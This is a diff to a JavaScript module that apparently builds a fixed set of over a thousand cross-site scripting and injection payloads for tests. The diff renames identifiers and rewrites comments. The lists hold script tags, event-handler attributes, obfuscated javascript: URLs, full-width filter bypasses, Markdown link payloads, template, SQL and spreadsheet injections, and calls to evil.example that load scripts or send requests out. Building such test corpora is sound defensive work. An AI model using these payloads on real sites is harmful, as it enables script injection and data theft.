@@ -1,13 +1,13 @@
-// Words that would run something if they ever were more than words: what ends a context, joined with what runs in the next.
+// Injection payloads: a text that closes a context, joined with markup that runs code in the next.
 
-/** What a payload tries to do; each is noticed in another way. */
-const DEEDS = [
+/** Actions of payloads, each of which the tests detect in another way. They replace `J`. */
+const ACTIONS = [
   "alert(1)",
   "prompt(1)",
   "confirm(1)",
   "print()",
   "console.log(1)",
-  "hole()",
+  "injected()",
   "fetch('//evil.example/f')",
   "new Image().src='//evil.example/i'",
   "location='//evil.example/l'",
@@ -18,7 +18,7 @@ const DEEDS = [
   "history.pushState(1,1,'/x')",
 ];
 
-/** What ends the place where words stand. */
+/** Texts that close the context of a value. */
 const ENDS = [
   "",
   '">',
@@ -36,7 +36,7 @@ const ENDS = [
   '\\"}\'>',
 ];
 
-/** Elements that run something by themselves. `J` is the deed. */
+/** Elements that run code or load something by themselves. `J` is the action. */
 const ELEMENTS = [
   "<script>J</script>",
   "<script src=//evil.example/s></script>",
@@ -114,7 +114,7 @@ const ELEMENTS = [
   "<plaintext>",
 ];
 
-/** Attributes for whoever forgot a quotation mark. */
+/** Attributes that a missing quotation mark would let in. */
 const ATTRIBUTES = [
   '" onload=J x="',
   '" autofocus onfocus=J x="',
@@ -131,7 +131,7 @@ const ATTRIBUTES = [
   "0; url=javascript:J",
 ];
 
-/** Schemes, as browsers read them and filters do not. */
+/** URLs with schemes that browsers recognise and naive filters do not. */
 const SCHEMES = [
   "javascript:J",
   "JaVaScRiPt:J",
@@ -170,10 +170,10 @@ const SCHEMES = [
   "about:blank",
 ];
 
-/** Where Markdown takes an address. `U` is one. */
+/** Places for a URL in Markdown. `U` is the URL. */
 const LINKS = ["[x](U)", "[x](<U>)", "![x](U)", "<U>", "[x]: U\n\n[x]", "[![x](U)](U)", "[x](/a \"U\")", "<a href=\"U\">x</a>"];
 
-/** Marks of Markdown with something in them that wants out. */
+/** Markdown constructs that contain a payload. */
 const MARKDOWN = [
   "[x](y \"\\\" onfocus=J autofocus x=\\\"\")",
   "![\" onerror=J x=\"](z)",
@@ -208,7 +208,7 @@ const MARKDOWN = [
   "<a\u0000href=javascript:J>x</a>",
 ];
 
-/** What other languages would read in it. */
+/** Payloads for templates, JSON, scripts, XML, spreadsheets and SQL. */
 const LANGUAGES = [
   "{{ 7 * 7 }}",
   "{% include \"base.html\" %}",
@@ -240,10 +240,10 @@ const LANGUAGES = [
 ];
 
 const WIDE = { "<": "＜", ">": "＞", '"': "＂", "'": "＇", "(": "（", ")": "）", "/": "／", "=": "＝" };
-/** In full width, which folding turns back into ASCII. */
+/** Replaces characters by their full-width forms, which folding (NFKC) turns back into ASCII. */
 const wide = (text) => text.replace(/[<>"'()/=]/g, (c) => WIDE[c]);
 
-/** All payloads, the same in every run: over a thousand, no two alike. */
+/** All payloads, the same in every run: more than a thousand, all distinct. */
 export function payloads() {
   const made = [];
   for (const element of ELEMENTS) {
@@ -253,6 +253,6 @@ export function payloads() {
   made.push(...ATTRIBUTES, ...SCHEMES, ...MARKDOWN, ...LANGUAGES);
   for (const scheme of SCHEMES) made.push(LINKS[made.length % LINKS.length].replaceAll("U", scheme));
   for (const link of LINKS) made.push(link.replaceAll("U", SCHEMES[0]), link.replaceAll("U", SCHEMES[7]), link.replaceAll("U", SCHEMES[24]));
-  const done = made.map((text, n) => text.replaceAll("J", DEEDS[n % DEEDS.length]));
+  const done = made.map((text, n) => text.replaceAll("J", ACTIONS[n % ACTIONS.length]));
   return [...new Set(done)];
 }
